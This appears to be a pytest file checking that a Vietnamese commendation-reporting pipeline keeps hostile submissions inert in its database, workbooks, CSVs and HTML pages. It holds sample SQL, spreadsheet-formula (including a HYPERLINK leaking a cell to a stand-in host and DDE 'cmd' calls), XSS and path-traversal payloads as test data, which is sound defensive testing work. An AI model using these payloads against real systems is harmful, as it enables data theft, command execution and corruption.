"""Injection: hostile text in a submission stays data in the database and inert in every output."""

from __future__ import annotations

import csv
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import duckdb
import openpyxl
import pytest

from tasks.config import ConfigError, Unit, load_config
from tasks.safety import FORMULA_START, forbid_scripts, inside, neutralise, safe_name
from tasks.workbook_templates import build_template
from tests.factories import submission, write_csv_folder, write_xlsx

YEAR = 2020
SQL = "x'); drop table raw_cell; --"
FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]
# If any of these ran in a browser it would change the page's title or mark <body>.
SCRIPT = "<script>document.title='PWNED'</script>"
IMG = "<img src=x onerror=\"document.body.setAttribute('data-pwned','1')\">"
ODD_NAME = "<img src=x onerror=alert(1)>"  # a file name cannot hold "/", so no </script>
PEOPLE = ["Nguyễn Văn Kín Tên", "Trần Thị Riêng Tư"]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("Xã Long Khánh A", "Xã Long Khánh A"), ("", ""), (-1, -1), (None, None), ("a=1", "a=1"),
])
def test_neutralise_makes_formula_text_inert_and_leaves_the_rest(value, expected):
    assert neutralise(value) == expected


@pytest.mark.parametrize("name, expected", [
    ("TTT", "TTT"), ("../../etc/passwd", "etc_passwd"), ("..\\..\\EVIL", "EVIL"), ("C:\\Windows", "C_Windows"),
    ("Thường Thới", "Thuong_Thoi"), ("a\x00b", "a_b"), ("..", "khong_ten"), ("", "khong_ten"), ("/", "khong_ten"),
])
def test_safe_name_is_one_harmless_path_component(tmp_path, name, expected):
    assert safe_name(name) == expected
    assert inside(tmp_path, safe_name(name)).parent == tmp_path.resolve()


@pytest.mark.parametrize("parts", [("..", "x"), ("a", "..", "..", "x"), ("/etc/passwd",)])
def test_inside_refuses_paths_that_leave_the_folder(tmp_path, parts):
    with pytest.raises(ValueError):
        inside(tmp_path, *parts)


def test_unit_codes_that_could_name_a_path_are_refused_by_the_registry(tmp_path):
    shutil.copytree(load_config().config_dir, tmp_path / "config")
    units = tmp_path / "config" / "units.yaml"
    units.write_text(units.read_text(encoding="utf-8").replace("code: TTT", "code: ../TTT", 1), encoding="utf-8")

    with pytest.raises(ConfigError, match=r"units\[\.\./TTT\]\.code"):
        load_config(tmp_path / "config")


def test_blank_templates_hold_no_formula_even_from_a_hostile_config():
    config = load_config()
    unit = Unit(code="TTT", name=FORMULAS[0], kind="thi_tran")
    indicator = config.indicators_for(config.unit("TTT"))[0].model_copy(update={"name": FORMULAS[1], "unit": "@x"})
    config = config.model_copy(update={
        "units": (unit,) + config.units[1:],
        "indicators": tuple(indicator if i.code == indicator.code else i for i in config.indicators),
    })

    wb = build_template(config, unit, YEAR)

    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert not [v for v in values if v.startswith(FORMULA_START)]
    assert "'" + FORMULAS[0] in values and "'" + FORMULAS[1] in values


# ---------------------------------------------------------------------------------------------
# The whole cycle over hostile submissions


def _hostile_submissions(root: Path) -> None:
    year_dir = root / str(YEAR)
    ttt = submission("TTT", YEAR, {"so_ho": 1000, "so_ho_ngheo": 10},
                     awards=[("Giấy khen", "Cá nhân", PEOPLE[0], FORMULAS[1], "15/12/2020", FORMULAS[2]),
                             ("Lao động tiên tiến", "Cá nhân", PEOPLE[1], "2/QĐ", "15/12/2020", None)],
                     narrative=[("II.2", f"Đời sống văn hóa {SCRIPT} {IMG} {FORMULAS[3]} **đậm** [liên kết](http://x)")])
    ttt["chi_tieu"][1][2] = FORMULAS[0]  # a note on so_ho
    ttt["thong_tin"][4][1] = PEOPLE[1]  # nguoi_lap
    write_xlsx(year_dir / "TTT.xlsx", ttt)
    tp1 = submission("TP1", YEAR, {"so_ho": FORMULAS[0], SQL: 5},
                     awards=[(SCRIPT + IMG, "Cá nhân", PEOPLE[0], FORMULAS[3], "15/12/2020")])
    write_csv_folder(year_dir / "TP1", tp1)
    # Names that would climb out of a folder on Windows, or break out of HTML on a summary page.
    write_xlsx(year_dir / "..\\..\\EVIL.xlsx", submission("EVIL", YEAR, {"so_ho": 1}))
    write_xlsx(year_dir / f"{ODD_NAME}.xlsx", submission("X", YEAR, {"so_ho": 1}))
    # A file name becomes the unit code that status lists and feedback name: it must not run either.
    write_xlsx(year_dir / "=2+3.xlsx", submission("X", YEAR, {"so_ho": 1}))


@pytest.fixture(scope="module")
def cycle(tmp_path_factory):
    """ingest → validate → publish → aggregate → render over the hostile folder; every file it wrote."""
    from tasks.aggregate import aggregate, write_outputs
    from tasks.ingest import ingest_year
    from tasks.publish import publish_validation
    from tasks.render import render_report
    from tasks.validate import validate_year

    root = tmp_path_factory.mktemp("hostile")
    subs, out = root / "subs", root / "out"
    _hostile_submissions(subs)
    db = out / "thidua.duckdb"
    config = load_config()
    before = {p for p in root.rglob("*")}
    ingest_year(config, subs, YEAR, db)
    validate_year(config, YEAR, db)
    publish_validation(config, YEAR, db, out)
    aggregate(config, YEAR, 1, db)
    write_outputs(config, YEAR, 1, db, out)
    render_report(config, YEAR, 1, db, out)
    written = sorted(p for p in root.rglob("*") if p not in before and p.is_file())
    return {"root": root, "subs": subs, "out": out, "db": db, "written": written}


def _files(cycle, suffix: str) -> list[Path]:
    return [p for p in cycle["written"] if p.suffix == suffix and "data_docs" not in p.parts]


def test_sql_payload_in_a_code_is_stored_verbatim_as_data(cycle):
    with duckdb.connect(str(cycle["db"]), read_only=True) as con:
        assert con.execute("select count(*) > 0 from raw_cell").fetchone() == (True,)
        assert con.execute("select value_text from raw_cell where value_text = ?", [SQL]).fetchall() == [(SQL,)]
        assert con.execute("select indicator_code from stg_indicator_value where unit_code = 'TP1' "
                           "and indicator_code = ?", [SQL]).fetchall() == [(SQL,)]


def test_nothing_is_written_outside_the_output_folder(cycle):
    out = cycle["out"].resolve()
    assert cycle["written"]
    assert [p for p in cycle["written"] if out not in p.resolve().parents] == []
    assert not (cycle["root"].parent / "EVIL.xlsx").exists()


def test_odd_file_names_are_recorded_as_received(cycle):
    with duckdb.connect(str(cycle["db"]), read_only=True) as con:
        paths = [r[0] for r in con.execute("select source_path from raw_file_version").fetchall()]
    assert f"{YEAR}/..\\..\\EVIL.xlsx" in paths and f"{YEAR}/{ODD_NAME}.xlsx" in paths


def test_no_workbook_the_cycle_writes_holds_a_formula(cycle):
    workbooks = _files(cycle, ".xlsx")
    assert workbooks
    for path in workbooks:
        with zipfile.ZipFile(path) as zf:
            for name in zf.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in zf.read(name) and b"<f " not in zf.read(name), (path.name, name)
        wb = openpyxl.load_workbook(path)
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START):
                        # Shown as text: Excel's quote prefix keeps it from becoming a formula when edited.
                        assert cell.quotePrefix, (path.name, ws.title, cell.coordinate, cell.value)


def test_feedback_workbooks_show_the_hostile_value_as_typed(cycle):
    feedback = [p for p in _files(cycle, ".xlsx") if p.name.startswith("phan_hoi_TP1")]
    assert feedback
    texts = [c.value for ws in openpyxl.load_workbook(feedback[0]).worksheets for row in ws.iter_rows()
             for c in row if isinstance(c.value, str)]
    assert any(FORMULAS[0] in t for t in texts)


def test_no_csv_field_starts_like_a_formula(cycle):
    files = _files(cycle, ".csv")
    assert files
    for path in files:
        for n, row in enumerate(csv.reader(path.open(encoding="utf-8")), start=1):
            for value in row:
                if value.startswith(FORMULA_START):
                    try:
                        float(value)  # a negative number is a number
                    except ValueError:
                        pytest.fail(f"{path.name} dòng {n}: “{value}” would run as a formula in Excel")


def test_html_pages_escape_submitted_markup(cycle):
    pages = _files(cycle, ".html")
    assert pages
    for path in pages:
        text = path.read_text(encoding="utf-8")
        assert "<script>document.title" not in text, path.name
        assert "<img src=x" not in text, path.name


def test_markdown_draft_shows_markup_and_links_literally(cycle):
    (draft,) = [p for p in _files(cycle, ".md") if p.name.startswith("bao_cao_")]
    text = draft.read_text(encoding="utf-8")
    assert "Đời sống văn hóa" in text
    # Escaped with a backslash, Markdown shows "<script>" and "[liên kết](…)" as the characters typed.
    assert not re.search(r"(?<!\\)<(script|img)", text)
    assert not re.search(r"(?<!\\)\]\(http://x\)", text)
    assert "\\<script\\>" in text


def test_personal_names_never_reach_the_report_draft(cycle):
    import docx

    drafts = [p for p in cycle["written"] if p.name.startswith("bao_cao_")]
    assert {p.suffix for p in drafts} == {".docx", ".html", ".md"}
    for path in drafts:
        if path.suffix == ".docx":
            document = docx.Document(str(path))
            text = "\n".join(p.text for p in document.paragraphs) + "\n".join(
                cell.text for table in document.tables for row in table.rows for cell in row.cells)
        else:
            text = path.read_text(encoding="utf-8")
        for person in PEOPLE:
            assert person not in text, (path.name, person)


# ---------------------------------------------------------------------------------------------
# In a real browser: headless Chromium runs the page's scripts, then prints the DOM.

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")


def _dom(path: Path, profile: Path) -> str:
    result = subprocess.run(
        [CHROMIUM, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-extensions",
         "--disable-background-networking", "--disable-sync", f"--user-data-dir={profile}",
         "--virtual-time-budget=2000", "--dump-dom", path.as_uri()],
        capture_output=True, text=True, timeout=120,
    )
    assert result.returncode == 0, result.stderr[-2000:]
    return result.stdout


def _ran(dom: str) -> bool:
    return "<title>PWNED</title>" in dom or 'data-pwned="1"' in dom


@pytest.mark.usefixtures("chromium")
def test_submitted_script_does_not_run_in_a_browser(cycle, tmp_path):
    control = tmp_path / "control.html"
    control.write_text(f"<html><head><title>x</title></head><body>{SCRIPT}{IMG}</body></html>", encoding="utf-8")
    assert _ran(_dom(control, tmp_path / "profile")), "the browser check itself must see an unescaped script run"

    pages = [p for p in _files(cycle, ".html") if p.name.startswith(("bao_cao_", "index", "TP1", "TTT"))]
    assert pages
    for page in pages:
        assert not _ran(_dom(page, tmp_path / "profile")), page.name


@pytest.mark.usefixtures("chromium")
def test_forbid_scripts_stops_an_unescaped_script(tmp_path):
    page = tmp_path / "docs" / "page.html"
    page.parent.mkdir()
    page.write_text(f"<html><head><title>x</title></head><body>{SCRIPT}{IMG}</body></html>", encoding="utf-8")

    assert forbid_scripts(tmp_path / "docs") == [page]

    assert not _ran(_dom(page, tmp_path / "profile"))
    assert forbid_scripts(tmp_path / "docs") == []  # once is enough


@pytest.mark.usefixtures("chromium")
def test_data_docs_do_not_run_submitted_script(cycle, tmp_path):
    """GX Data Docs print unexpected values as raw HTML; publish must make those pages script-free."""
    pages = [p for p in cycle["written"] if p.suffix == ".html" and "data_docs" in p.parts
             and SCRIPT in p.read_text(encoding="utf-8")]
    assert pages, "the hostile award title should appear in the stg_award Data Docs page"
    for page in pages:
        assert not _ran(_dom(page, tmp_path / "profile")), page.relative_to(cycle["out"]).as_posix()
